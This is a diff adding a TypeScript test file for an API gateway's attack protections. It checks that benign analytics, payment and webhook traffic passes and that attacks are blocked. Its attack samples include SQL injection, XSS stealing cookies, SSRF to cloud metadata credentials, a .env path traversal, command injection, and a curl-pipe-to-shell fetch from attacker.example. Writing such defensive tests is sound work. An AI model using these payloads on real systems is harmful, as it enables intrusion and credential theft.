@@ -1,0 +1,114 @@
+/**
+ * Realistic API and browser-SDK traffic through the default protections (no policy: attack detection at paranoia 1,
+ * enforce): what analytics, monitoring and payment SDKs, webhooks, query languages and API styles send must pass,
+ * and attacks placed where such traffic puts its data must not. Every sample here was written for this test.
+ */
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { request } from 'undici';
+import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
+import { startGateway, type TestGateway } from '../helpers/gateway.ts';
+
+let upstream: TestUpstream;
+let gw: TestGateway;
+
+before(async () => {
+  upstream = await startUpstream();
+  gw = await startGateway({ upstreams: { up: { url: upstream.url } }, routes: [{ name: 'all', path: '/**', upstream: 'up' }] });
+});
+after(async () => { await gw.close(); await upstream.close(); });
+
+interface Sample { readonly label: string; readonly path: string; readonly method?: string; readonly body?: string; readonly type?: string; readonly headers?: Record<string, string> }
+
+const UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
+const json = (label: string, path: string, value: unknown, type = 'application/json', method = 'POST'): Sample => ({ label, path, method, body: JSON.stringify(value), type });
+const q = encodeURIComponent;
+
+async function send(s: Sample): Promise<{ status: number; text: string }> {
+  const headers: Record<string, string> = { 'user-agent': UA, ...s.headers };
+  if (s.type !== undefined) headers['content-type'] = s.type;
+  const res = await request(`${gw.url}${s.path}`, { method: (s.method ?? (s.body === undefined ? 'GET' : 'POST')) as 'GET', body: s.body, headers });
+  return { status: res.statusCode, text: await res.body.text() };
+}
+
+const BENIGN: Sample[] = [
+  // query languages and API conventions
+  { label: 'OData', path: `/odata/Products?${q('$filter')}=${q("Name eq 'Kim' and Price lt 10.5")}&${q('$select')}=Name,Price&${q('$orderby')}=${q('Price desc')}&${q('$top')}=20` },
+  { label: 'OData functions', path: `/odata/Customers?${q('$filter')}=${q("startswith(CompanyName,'Alfr') or contains(City,'Seoul')")}&${q('$expand')}=${q('Orders($select=OrderID)')}` },
+  { label: 'JSON:API filters', path: '/articles?fields=id,name&sort=-updated_at,name&filter[created_at][gte]=2026-01-01&page[number]=2' },
+  { label: 'search syntax', path: `/search/issues?q=${q('is:open is:pr author:@me label:"needs review"')}` },
+  { label: 'JQL', path: `/rest/search?jql=${q('project = PORT AND status in ("In Progress", Review) ORDER BY priority DESC')}` },
+  { label: 'Lucene range', path: `/search?q=${q('title:(waf OR "api gateway") AND year:[2020 TO 2026]')}` },
+  { label: 'PostgREST', path: '/rest/v1/orders?select=id,total,items(id,qty)&status=eq.open&order=created_at.desc' },
+  { label: 'presigned S3 URL', path: '/bucket/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20261127%2Fap-northeast-2%2Fs3%2Faws4_request&X-Amz-Date=20261127T101010Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024' },
+  { label: 'download disposition', path: `/files/1?response-content-disposition=${q('attachment; filename="report (1).pdf"')}` },
+  { label: 'search words that name attacks', path: `/search?q=${q('how to kill a process in linux')}&q2=${q('null pointer exception')}&q3=${q('javascript onclick event')}` },
+  { label: 'emoji and RTL text', path: `/search?q=${q('😀 안녕하세요 ❤️')}&name=${q('\u202bשלום\u202c')}` },
+  // browser SDKs: analytics, monitoring, pixels
+  { label: 'GA4 collect', path: `/g/collect?v=2&tid=G-ABC123XYZ&cid=1234567890.1764200000&ul=ko-kr&dl=${q('https://shop.example.com/products/42?utm_source=google&utm_medium=cpc')}&dt=${q('T-Shirt (Red) | Example Shop')}&en=page_view`, method: 'POST', body: 'en=scroll&epn.percent_scrolled=90\nen=user_engagement&_et=15000', type: 'text/plain;charset=UTF-8' },
+  {
+    label: 'Sentry envelope', path: '/api/4508123456789/envelope/?sentry_key=0123456789abcdef&sentry_version=7', type: 'text/plain;charset=UTF-8',
+    body: [
+      JSON.stringify({ event_id: 'a1b2c3d4e5f64a7b8c9d0e1f2a3b4c5d', sent_at: '2026-11-27T10:10:10.123Z' }), JSON.stringify({ type: 'event' }),
+      JSON.stringify({ level: 'error', exception: { values: [{ type: 'TypeError', value: "Cannot read properties of undefined (reading 'map')", stacktrace: { frames: [{ filename: 'https://shop.example.com/static/js/main.3f2a1b9c.js', function: 'ProductList', context_line: 'return items.map((item) => <Item key={item.id} {...item} />);' }] } }] },
+        breadcrumbs: [{ category: 'ui.click', message: 'body > div#root > main > button.btn.btn-primary[type="submit"]' }, { category: 'fetch', data: { method: 'GET', url: '/api/products?sort=-price&page=2', status_code: 500 } }],
+        user: { ip_address: '{{auto}}' } }),
+    ].join('\n'),
+  },
+  json('Segment batch', '/v1/batch', { batch: [{ type: 'track', event: 'Product Viewed', properties: { name: "Men's T-Shirt (Red) - L", category: 'Apparel > Tops' }, context: { page: { path: '/products/42', search: '?utm_source=google', url: 'https://shop.example.com/products/42?utm_source=google' }, userAgent: UA } }] }, 'text/plain'),
+  { label: 'Mixpanel base64 form', path: '/track', type: 'application/x-www-form-urlencoded', body: `data=${q(Buffer.from(JSON.stringify([{ event: '$mp_web_page_view', properties: { $current_url: 'https://shop.example.com/?q=select+size', distinct_id: '$device:18c1a2b3' } }])).toString('base64'))}&ip=1` },
+  { label: 'Datadog RUM', path: '/api/v2/rum?ddsource=browser&ddtags=sdk_version%3A5.30.0%2Cenv%3Aprod', type: 'text/plain;charset=UTF-8', body: [JSON.stringify({ type: 'view', view: { url: 'https://shop.example.com/cart?step=2', name: '/cart' } }), JSON.stringify({ type: 'resource', resource: { type: 'xhr', url: 'https://shop.example.com/api/cart/items?include=product.images&fields[product]=name,price', method: 'PATCH' } })].join('\n') },
+  json('web-vitals', '/vitals', { name: 'LCP', value: 2345.6, attribution: { element: 'main > section.hero > img.hero-image', url: 'https://cdn.example.com/img/hero.webp?w=1200&q=80' } }),
+  json('session replay', '/collect', { e: [{ t: 'click', s: "div.product-card:nth-child(3) > a[href*='products']" }, { t: 'input', s: 'input#search[name="q"]', v: '***' }] }),
+  { label: 'Stripe.js form', path: '/v1/payment_methods', type: 'application/x-www-form-urlencoded', body: 'type=card&card[number]=4242424242424242&card[cvc]=123&billing_details[address][postal_code]=04524&payment_user_agent=stripe.js%2F1a2b3c%3B+stripe-js-v3&referrer=https%3A%2F%2Fshop.example.com' },
+  // webhooks and developer APIs
+  json('JSON Patch', '/api/items/42', [{ op: 'replace', path: '/name', value: 'New name' }, { op: 'add', path: '/tags/-', value: 'sale' }, { op: 'move', from: '/a/b', path: '/a/c' }], 'application/json-patch+json', 'PATCH'),
+  json('GitHub push', '/webhooks/github', { ref: 'refs/heads/main', repository: { issues_url: 'https://api.github.com/repos/acme/portcullis/issues{/number}', compare_url: 'https://api.github.com/repos/acme/portcullis/compare/{base}...{head}' }, commits: [{ message: 'Fix SQL injection in login (use prepared statements)', modified: ['src/login.ts', '../docs/security.md'] }] }),
+  json('Slack event', '/webhooks/slack', { event: { type: 'message', text: 'Deploy done :rocket: see <https://ci.example.com/build/123|build #123> and ping <@U024BE7LH>' } }),
+  json('SQL in a code block', '/api/issues', { body: "Here's the failing query:\n```sql\nSELECT o.id, SUM(i.qty * i.price) AS total\nFROM orders o JOIN items i ON i.order_id = o.id\nWHERE o.created_at >= '2026-01-01'\nGROUP BY o.id HAVING SUM(i.qty) > 10;\n```" }),
+  json('chat completion', '/v1/chat/completions', { messages: [{ role: 'user', content: 'Translate to Korean: "Please select the account you want to link (up to 5)."' }, { role: 'assistant', content: '연결할 계좌를 선택하세요 (최대 5개).' }] }),
+  json('PromQL and LogQL', '/api/dashboards', { panels: [{ query: 'sum(rate(http_requests_total{status=~"5.."}[5m])) by (service)' }, { query: '{app="api"} |= "error" | json' }] }),
+  json('rule expressions', '/api/rules', { condition: "request.path.startsWith('/admin') && !request.auth.claims.admin", expression: 'amount > 1000 || country != "KR"' }),
+  json('Elasticsearch DSL', '/api/search', { query: { match_phrase: { message: 'connection refused' } }, script_fields: { doubled: { script: { source: "doc['value'].value * 2" } } } }),
+  json('file paths', '/api/paths', { files: ['C:\\Program Files\\App\\bin\\app.exe', '/Users/jiwoo/Library/Application Support/App/config.json', './src/index.ts', '../lib/helpers.js'] }),
+  json('cron and globs', '/api/config', { cron: '*/5 * * * *', glob: 'src/**/*.{ts,tsx}', env: { PATH: '/usr/local/bin:/usr/bin:/bin' } }),
+  json('ICU messages', '/api/i18n', { en: 'Delete {count, plural, one {# item} other {# items}}?', fr: "Supprimer l'élément « {name} » ?" }),
+  json('regex fields', '/api/forms', { fields: [{ pattern: '^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$' }, { pattern: '(\\d{3})-(\\d{4})-(\\d{4})', replace: '$1-****-$3' }] }),
+  json('prose with symbols', '/api/profile', { bio: '¯\\_(ツ)_/¯ coffee > tea; vim > emacs; tabs < spaces?? :-) <3 ^^ ㅋㅋㅋ', address: '123 Main St. Apt #4B; c/o ACME, Inc.' }),
+  json('MyData consent', '/api/mydata/consent', { scope: 'bank.list bank.deposit card.list', consent: { cycle: { fnd_cycle: '1/w' }, purpose: '자산 관리 서비스 제공 (통합 조회)' } }),
+  json('a constructor member that is no prototype path', '/api/shapes', { constructor: 'Vec3', prototype: { methods: ['add'] } }),
+  { label: 'checkout form', path: '/checkout', type: 'application/x-www-form-urlencoded', body: new URLSearchParams({ card_holder: "O'NEIL JI-WOO", address: '123 Main St. #4B; Bldg 3', note: 'Ring twice & leave @ door (side gate)', coupon: 'BLACK-FRIDAY_2026!' }).toString() },
+  { label: 'autocomplete keystrokes', path: `/api/autocomplete?q=${q("o'bri")}&q2=${q('select t')}&q3=${q('a|b')}&q4=${q('${')}&q5=${q('x<y>z')}` },
+];
+
+const ATTACKS: Sample[] = [
+  json('constructor.prototype in a JSON body', '/api/profile', [{ meta: { prototype: 1 } }, { settings: { constructor: { prototype: { isAdmin: true } } } }]),
+  { label: 'secret below the web root', path: `/download?file=${q('/var/www/html/.env')}` },
+  { label: 'Windows command with a drive path', path: `/ping?host=${q('127.0.0.1 & dir c:\\')}` },
+  { label: 'remote include cut by a NUL byte', path: `/view?page=${q('http://attacker.example/shell.txt\u0000')}` },
+  { label: 'SQL with %A0 blanks', path: '/item?id=1%A0union%A0select%A0password%A0from%A0users' },
+  { label: 'SQL in a Sentry-like text beacon', path: '/api/1/envelope/', type: 'text/plain;charset=UTF-8', body: `${JSON.stringify({ event_id: 'x' })}\n${JSON.stringify({ message: "1' UNION SELECT password FROM users--" })}` },
+  json('XSS in a Segment property', '/v1/batch', { batch: [{ type: 'track', properties: { name: '<img src=x onerror=alert(document.cookie)>' } }] }, 'text/plain'),
+  json('SSRF in a webhook URL', '/api/webhooks', { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
+  json('SQL in a filter field', '/api/search', { filter: { field: 'name', op: 'eq', value: "Kim' or '1'='1" } }),
+  { label: 'command in a JSON Patch value', path: '/api/items/1', method: 'PATCH', type: 'application/json-patch+json', body: JSON.stringify([{ op: 'replace', path: '/name', value: '$(curl http://attacker.example/x.sh | sh)' }]) },
+];
+
+test('realistic API, SDK and webhook traffic passes the default protections', async () => {
+  const refused: string[] = [];
+  for (const s of BENIGN) {
+    const res = await send(s);
+    if (res.status !== 200) refused.push(`${s.label}: ${res.status} ${res.text.slice(0, 200)}`);
+  }
+  assert.deepEqual(refused, []);
+});
+
+test('attacks where such traffic carries its data are blocked, and never reach the upstream', async () => {
+  const passed: string[] = [];
+  for (const s of ATTACKS) {
+    const before = upstream.requests.length;
+    const res = await send(s);
+    if (res.status !== 403 || upstream.requests.length !== before) passed.push(`${s.label}: ${res.status}`);
+  }
+  assert.deepEqual(passed, []);
+});
